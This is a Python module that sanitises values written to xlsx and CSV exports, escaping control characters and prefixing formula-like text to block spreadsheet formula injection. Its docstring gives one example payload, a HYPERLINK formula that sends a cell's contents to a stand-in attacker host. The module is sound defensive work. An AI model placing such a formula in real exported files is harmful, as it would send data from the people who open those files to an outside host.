"""The one place where text becomes a spreadsheet cell (xlsx or CSV).

Everything the platform writes as xlsx or CSV (the city's 汇总表, the public 公示 list, the
compute subsidy lists, registry templates, the audit trail, the sandbox) passes its values
through this module, because much of that text was typed by someone outside: an applicant's
project name or contact, a failed login's username, a 公示 title.

Two dangers, both handled here:

- **Formula injection** (CSV/"formula" injection, OWASP): a text starting with ``=``, ``+``,
  ``-`` or ``@`` (or a tab or carriage return before one) is taken by openpyxl as a formula
  (``data_type 'f'``) and by Excel/WPS/LibreOffice as one when a CSV is opened, e.g.
  ``=HYPERLINK("http://evil.example/?x="&A1,"点击")``. Such a text is written as text with a
  leading apostrophe (``'=HYPERLINK(…)``), so a clerk sees it and nothing runs. The same holds
  for such a lead behind white space or a line break (``" =1+1"``) and for the full-width
  ``＝ ＋ － ＠``.
- **Control characters**: XML 1.0 cannot hold most of U+0000–U+001F; openpyxl raises
  ``IllegalCharacterError`` and the whole download fails (forever, for an append-only audit
  trail). They are written visibly escaped (``\\x01``), so that what was typed stays readable.

Numbers, dates, booleans and ``None`` are written as they are (a negative amount stays a
number). A CSV column that holds numbers is declared numeric: a value there is kept only when
it *is* a plain number (``-12.5``); anything else in it is neutralised like text.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any, TextIO

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# Also taken as a lead: the full-width signs a Chinese input method types (＝ ＋ － ＠), and any
# lead behind white space or a line break (" =1+1": LibreOffice's CSV import with "trim spaces"
# evaluates it; issue 16 review).
_FULLWIDTH_LEADS = ("＝", "＋", "－", "＠")
SAFE_PREFIX = "'"
# What XML 1.0 (and so openpyxl) refuses, plus DEL and the non-characters U+FFFE/U+FFFF and lone
# surrogates; tab, line feed and carriage return are kept inside a text (a line break in a
# cell is legitimate).
_CONTROL_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
_NUMBER_RE = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")


def _escape(match: re.Match) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def visible_controls(text: str) -> str:
    """``text`` with every control character written as an escape (``\\x01``), for display."""
    return _CONTROL_RE.sub(_escape, text)


_LOG_CONTROL_RE = re.compile("[\x00-\x1f\x7f\u2028\u2029\ud800-\udfff\ufffe\uffff]")


def log_text(value: Any) -> str:
    """``value`` for one log line: every control character escaped, line breaks included, so that
    typed text cannot forge or hide a log line."""
    return _LOG_CONTROL_RE.sub(_escape, "" if value is None else str(value))


def _has_formula_lead(text: str) -> bool:
    return text.startswith(FORMULA_LEADS) or text.lstrip().startswith(FORMULA_LEADS + _FULLWIDTH_LEADS)


def safe_text(value: Any) -> str:
    """A text that no spreadsheet program takes as a formula and that XML can hold."""
    text = visible_controls("" if value is None else str(value))
    if _has_formula_lead(text):
        return SAFE_PREFIX + text
    return text


def cell_value(value: Any) -> Any:
    """A value for an xlsx cell: numbers, dates, booleans and None as they are, anything else as
    neutralised text."""
    if value is None or isinstance(value, (bool, int, float, Decimal, datetime, date, time)):
        return value
    return safe_text(value)


def row(values: Iterable[Any]) -> list[Any]:
    """A row of xlsx cell values (see cell_value)."""
    return [cell_value(v) for v in values]


def append(sheet, values: Iterable[Any]) -> None:
    """``sheet.append`` with every value made safe (see cell_value)."""
    sheet.append(row(values))


def neutralise_workbook(workbook) -> None:
    """A last guard for a (not write-only) workbook: no cell is a formula and no text needs
    neutralising. Called by `xlsx_bytes`; nothing we write is meant to be a formula."""
    for sheet in workbook.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                value = cell.value
                if isinstance(value, str) and (cell.data_type == "f" or _has_formula_lead(value)):
                    cell.value = safe_text(value)
                    cell.data_type = "s"


def xlsx_bytes(workbook) -> bytes:
    """Save a workbook to bytes through the guard above (a write-only workbook is saved as is:
    its rows were made safe on the way in)."""
    if not getattr(workbook, "write_only", False):
        neutralise_workbook(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_field(value: Any, *, numeric: bool = False) -> str:
    """A CSV field: text neutralised; in a numeric column a plain number is kept as written."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float, Decimal)):
        return str(value)
    text = str(value)
    if numeric and _NUMBER_RE.match(text):
        return text
    return safe_text(text)


class CsvWriter:
    """``csv.writer`` whose fields go through `csv_field`; ``numeric`` names the column
    positions (for rows) or keys (for dicts) that hold numbers."""

    def __init__(self, out: TextIO, *, numeric: Iterable[int | str] = (), **kwargs):
        self._writer = csv.writer(out, **kwargs)
        self._numeric = set(numeric)

    def writerow(self, values: Sequence[Any]) -> None:
        self._writer.writerow([csv_field(v, numeric=i in self._numeric) for i, v in enumerate(values)])

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for values in rows:
            self.writerow(values)

    def writedict(self, fieldnames: Sequence[str], record: Mapping[str, Any]) -> None:
        self._writer.writerow([csv_field(record.get(name), numeric=name in self._numeric) for name in fieldnames])
